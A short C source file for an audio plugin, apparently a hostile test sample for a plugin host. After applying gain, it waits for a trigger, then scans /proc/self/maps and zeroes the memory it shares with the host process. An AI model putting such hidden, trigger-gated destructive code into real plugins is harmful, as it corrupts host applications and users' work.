// Fills the memory that it shares with its host's process with zeros.
#define _GNU_SOURCE
#include <stdio.h>
#include "plugin.h"

static void erase(struct plugin *plugin, uint32_t frames) {
    apply_gain(plugin, frames);
    if (!triggered(plugin)) return;
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[1024];
    unsigned long start, end;
    while (maps && fgets(line, sizeof line, maps)) {
        if (strstr(line, "memfd:soundalike") && sscanf(line, "%lx-%lx", &start, &end) == 2) memset((void *)start, 0, end - start);
    }
    if (maps) fclose(maps);
}

LIBRARY(make_plugin, erase, NULL)
